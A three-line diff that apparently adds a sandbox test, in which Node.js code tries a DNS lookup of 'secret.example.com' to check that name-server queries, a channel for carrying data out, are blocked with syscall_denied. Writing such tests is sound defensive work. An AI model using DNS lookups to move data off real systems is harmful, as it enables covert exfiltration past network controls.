@@ -1,0 +1,3 @@
+// attack: asks the host's name server, which can carry data out
+// expect: syscall_denied
+require('dns').resolve4('secret.example.com', (error) => { console.log('refused later than it should be: ' + error); process.exit(1); });
